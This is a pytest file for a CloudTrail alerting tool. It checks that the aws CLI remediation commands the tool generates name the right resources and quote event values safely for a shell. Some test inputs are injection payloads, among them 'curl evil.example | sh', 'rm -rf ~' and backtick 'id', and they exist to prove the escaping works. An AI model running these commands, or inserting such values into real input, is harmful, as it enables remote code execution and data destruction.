"""Remediation text built from the event: the event's own ids and names, quoted for a shell.

Commands are read back with shlex.split, as a shell would split them: what a reader pastes must be
exactly the command shown, whatever the event held.
"""

from __future__ import annotations

import copy
import json
import re
import shlex
from typing import Any

import pytest

from trailguard.core.base_handler import REGISTRY
from trailguard.core.engine import Engine
from trailguard.core.event_types import Finding
from trailguard.core.remedy import fill, quoted
from trailguard.core.settings import Settings

from .conftest import EVENTS_DIR

Record = dict[str, Any]


def _record(name: str) -> Record:
    record: Record = json.loads((EVENTS_DIR / name).read_text())["record"]
    return record


def _finding(record: Record, rule_id: str) -> Finding:
    (finding,) = [f for f in Engine(Settings.load(env={})).evaluate(record) if f.rule_id == rule_id]
    return finding


def _commands(text: str) -> list[list[str]]:
    """Each backticked command of a remediation, split as a POSIX shell splits it."""
    return [shlex.split(span) for span in re.findall(r"`([^`]*)`", text) if span.startswith("aws ")]


def test_security_group_rule_ids_come_from_the_response() -> None:
    record = _record("security_group/ingress_rdp_ipv6_world.json")
    finding = _finding(record, "sg.ingress-open-to-world")
    (created,) = record["responseElements"]["securityGroupRuleSet"]["items"]
    assert _commands(finding.remediation)[0] == [
        "aws",
        "ec2",
        "revoke-security-group-ingress",
        "--group-id",
        record["requestParameters"]["groupId"],
        "--security-group-rule-ids",
        created["securityGroupRuleId"],
    ]


def test_modified_security_group_rules_are_named_by_the_request() -> None:
    record = _record("security_group/modify_rules_ssh_world.json")
    finding = _finding(record, "sg.ingress-open-to-world")
    request = record["requestParameters"]["ModifySecurityGroupRulesRequest"]
    command = _commands(finding.remediation)[0]
    assert command[command.index("--group-id") + 1] == request["GroupId"]
    rule_id = request["SecurityGroupRule"]["SecurityGroupRuleId"]
    assert command[command.index("--security-group-rule-ids") + 1] == rule_id


def test_only_the_rules_open_to_the_world_are_named() -> None:
    record = _record("security_group/ingress_rdp_ipv6_world.json")
    items = record["responseElements"]["securityGroupRuleSet"]["items"]
    items.append({**items[0], "securityGroupRuleId": "sgr-0ffffffffffffffff", "cidrIpv6": "2001:db8::/64"})
    record["requestParameters"]["ipPermissions"]["items"][0]["ipv6Ranges"]["items"].append(
        {"cidrIpv6": "2001:db8::/64"}
    )
    command = _commands(_finding(record, "sg.ingress-open-to-world").remediation)[0]
    assert "sgr-0ffffffffffffffff" not in command
    assert items[0]["securityGroupRuleId"] in command


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("iam/attach_user_policy_admin.json", "user"),
        ("iam/attach_group_policy_admin.json", "group"),
        ("iam/attach_role_policy_iam_full_access.json", "role"),
    ],
)
def test_a_policy_is_detached_from_the_kind_of_principal_it_was_attached_to(name: str, kind: str) -> None:
    record = _record(name)
    finding = _finding(record, "iam.admin-policy-attached")
    assert _commands(finding.remediation) == [
        [
            "aws",
            "iam",
            f"detach-{kind}-policy",
            f"--{kind}-name",
            record["requestParameters"][f"{kind}Name"],
            "--policy-arn",
            record["requestParameters"]["policyArn"],
        ]
    ]


def test_an_inline_policy_is_deleted_by_name() -> None:
    record = _record("iam/put_user_policy_star.json")
    finding = _finding(record, "iam.admin-policy-attached")
    assert _commands(finding.remediation) == [
        [
            "aws",
            "iam",
            "delete-user-policy",
            "--user-name",
            record["requestParameters"]["userName"],
            "--policy-name",
            record["requestParameters"]["policyName"],
        ]
    ]


def test_an_access_key_is_named_with_its_user() -> None:
    record = _record("iam/create_access_key_other_user.json")
    finding = _finding(record, "iam.access-key-created")
    key = record["responseElements"]["accessKey"]
    deactivate, delete = _commands(finding.remediation)
    assert deactivate == [
        "aws",
        "iam",
        "update-access-key",
        "--user-name",
        record["requestParameters"]["userName"],
        "--access-key-id",
        key["accessKeyId"],
        "--status",
        "Inactive",
    ]
    assert delete[:3] == ["aws", "iam", "delete-access-key"]
    assert key["accessKeyId"] in delete


def test_a_root_access_key_is_deleted_without_a_user_name() -> None:
    record = _record("iam/create_access_key_root.json")
    finding = _finding(record, "iam.access-key-created")
    key_id = record["responseElements"]["accessKey"]["accessKeyId"]
    assert _commands(finding.remediation) == [["aws", "iam", "delete-access-key", "--access-key-id", key_id]]


def test_trail_commands_name_the_trail() -> None:
    stopped = _record("cloudtrail/stop_logging.json")
    command = _commands(_finding(stopped, "cloudtrail.logging-stopped").remediation)[0]
    assert command == ["aws", "cloudtrail", "start-logging", "--name", stopped["requestParameters"]["name"]]
    deleted = _record("cloudtrail/delete_trail.json")
    create, start = _commands(_finding(deleted, "cloudtrail.trail-deleted").remediation)
    name = deleted["requestParameters"]["name"]
    assert create[create.index("--name") + 1] == name
    assert start == ["aws", "cloudtrail", "start-logging", "--name", name]
    assert "<log-bucket>" in create  # the deleted trail's bucket is not in the record


@pytest.mark.parametrize(
    ("name", "rule_id"),
    [
        ("s3/put_bucket_acl_allusers_read.json", "s3.bucket-acl-public"),
        ("s3/delete_account_public_access_block.json", "s3.public-access-block-removed"),
    ],
)
def test_s3_commands_name_the_bucket_or_the_account(name: str, rule_id: str) -> None:
    record = _record(name)
    finding = _finding(record, rule_id)
    (command,) = _commands(finding.remediation)
    bucket = record["requestParameters"].get("bucketName")
    if bucket:
        assert command[command.index("--bucket") + 1] == bucket
    else:
        assert command[:2] == ["aws", "s3control"]
        assert command[command.index("--account-id") + 1] == record["recipientAccountId"]


def test_hostile_values_stay_one_word_and_are_never_doubly_filled() -> None:
    record = copy.deepcopy(_record("s3/put_bucket_acl_allusers_read.json"))
    hostile = "x; curl evil.example | sh $(id) '<bucket>' \"$HOME\""
    record["requestParameters"]["bucketName"] = hostile
    finding = _finding(record, "s3.bucket-acl-public")
    (command,) = _commands(finding.remediation)
    assert command == ["aws", "s3api", "put-bucket-acl", "--bucket", hostile, "--acl", "private"]


@pytest.mark.parametrize("value", ["a\nrm -rf ~", "a\x1b[2Jb", "a`id`", "", "x" * 3000])
def test_unsafe_values_leave_the_placeholder(value: str) -> None:
    assert quoted(value) == ""
    assert fill("`aws s3api delete-bucket-policy --bucket <bucket>`", {"<bucket>": value}) == (
        "`aws s3api delete-bucket-policy --bucket <bucket>`"
    )


def test_the_catalogue_keeps_the_placeholders() -> None:
    """docs/rules.md shows the rules' own text: a template for every event, not one event's values."""
    for rule_id, placeholder in [
        ("sg.ingress-open-to-world", "<sgr>"),
        ("iam.access-key-created", "<key>"),
        ("iam.admin-policy-attached", "<kind>"),
        ("cloudtrail.logging-stopped", "<trail>"),
        ("s3.bucket-acl-public", "<bucket>"),
    ]:
        assert placeholder in REGISTRY.get(rule_id).remediation


# What the record of each call cannot tell, so the alert leaves it for the reader: a deleted
# resource's former settings, the version or profile a change replaced, a key the reader chooses.
NOT_IN_THE_RECORD: dict[str, set[str]] = {
    "cloudtrail.trail-deleted": {"<log-bucket>"},
    "dns.query-logging-deleted": {"<vpc-id>"},  # a deleted configuration's VPCs
    "ec2.ami-shared-external": {"<account>"},  # shared with an organization: no account to name
    "ec2.instance-profile-replaced": {"<profile>"},
    "elb.waf-removed": {"<acl-arn>"},
    "iam.permissions-boundary-removed": {"<policy-arn>"},
    "iam.policy-version-changed": {"<v>"},
    "organizations.account-created": {"<account>"},  # known once the request completes
    "rds.storage-unencrypted": {"<key>"},  # the reader's choice of key
    "sg.ingress-open-to-world": {"<sg>", "<sgr>"},  # a record whose fields have the wrong types
    "sso.group-membership-changed": {"<membership>"},  # sso-directory's call returns no id
    "trailguard.pipeline-tampered": {"<rule>"},  # named only when a rule was what changed
    "vpc.flow-logs-deleted": {"<vpc>"},
}


def test_every_alert_fills_what_its_event_says(rule_test_events: list[Any]) -> None:
    """Every finding of every test event: a placeholder left in its remediation is one the record
    cannot fill (NOT_IN_THE_RECORD), never one it could."""
    from trailguard.rule_tests import CaseRunner, read_event_case

    runner = CaseRunner(None)
    left: dict[str, set[str]] = {}
    for case in rule_test_events:
        event_case = read_event_case(case.path)
        engine = runner.engine(event_case)
        engine.forget()
        engine.evaluate_all(event_case.history)
        for finding in engine.evaluate(event_case.record):
            placeholders = set(re.findall(r"<[a-z][a-z0-9-]*>", finding.remediation))
            unexpected = placeholders - NOT_IN_THE_RECORD.get(finding.rule_id, set())
            if unexpected:
                left.setdefault(f"{finding.rule_id} ({case.name})", set()).update(unexpected)
    assert left == {}


@pytest.mark.parametrize(
    ("name", "rule_id", "expected"),
    [
        (
            "rds/create_db_cluster_multi_az_public.json",
            "rds.instance-public",
            ["aws", "rds", "modify-db-cluster", "--db-cluster-identifier", "ledger-maz", "--no-publicly-accessible"],
        ),
        (
            "rds/modify_db_cluster_snapshot_attribute_mixed.json",
            "rds.snapshot-public",
            ["aws", "rds", "modify-db-cluster-snapshot-attribute", "--db-cluster-snapshot-identifier"],
        ),
        (
            "lambda/add_permission_external_account.json",
            "lambda.permission-public",
            ["aws", "lambda", "remove-permission", "--function-name", "billing-export", "--statement-id"],
        ),
        (
            "sso/create_account_assignment_by_terraform.json",
            "sso.account-assignment",
            ["aws", "sso-admin", "delete-account-assignment", "--instance-arn"],
        ),
        (
            "organizations/delete_policy.json",
            "organizations.scp-weakened",
            ["aws", "organizations", "create-policy", "--type", "SERVICE_CONTROL_POLICY"],
        ),
    ],
)
def test_the_command_fits_the_kind_of_resource_and_call(name: str, rule_id: str, expected: list[str]) -> None:
    (first, *_) = _commands(_finding(_record(name), rule_id).remediation)
    assert first[: len(expected)] == expected


def test_an_rds_snapshot_is_unshared_from_exactly_the_accounts_it_was_shared_with() -> None:
    record = _record("rds/modify_db_cluster_snapshot_attribute_mixed.json")
    (command,) = _commands(_finding(record, "rds.snapshot-public").remediation)
    shared = record["requestParameters"]["valuesToAdd"]
    trusted = Settings.load(env={}).trusted_accounts
    removed = command[command.index("--values-to-remove") + 1 :]
    assert removed == [account for account in shared if account not in trusted]
    assert command[command.index("--db-cluster-snapshot-identifier") + 1] == "ledger-aurora-final"


def test_a_permissions_boundary_goes_back_on_the_kind_of_principal_it_was_removed_from() -> None:
    record = _record("iam/delete_role_permissions_boundary.json")
    (command,) = _commands(_finding(record, "iam.permissions-boundary-removed").remediation)
    assert command[:5] == ["aws", "iam", "put-role-permissions-boundary", "--role-name", "team-a-lambda-exec"]


def test_a_region_command_names_the_region_the_event_is_about() -> None:
    enabled = _record("account/enable_region.json")
    (command,) = _commands(_finding(enabled, "account.region-enabled").remediation)
    assert command == ["aws", "account", "disable-region", "--region-name", "af-south-1"]
    serial = _record("ec2/enable_serial_console.json")
    command = _commands(_finding(serial, "ec2.serial-console-enabled").remediation)[0]
    assert command[-2:] == ["--region", serial["awsRegion"]]
